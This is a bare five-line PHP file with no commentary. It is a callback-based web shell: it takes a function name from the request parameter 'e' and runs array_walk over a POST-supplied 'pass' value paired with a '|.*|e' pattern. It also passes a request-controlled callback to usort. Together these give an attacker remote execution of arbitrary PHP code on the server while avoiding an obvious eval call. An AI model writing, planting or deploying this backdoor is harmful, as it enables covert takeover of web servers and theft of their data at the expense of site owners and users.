<?php
$e = $_REQUEST['e'];
$arr = array($_POST['pass'] => '|.*|e',);
array_walk($arr, $_REQUEST['e'], '');
usort($x, $_GET['cb']);
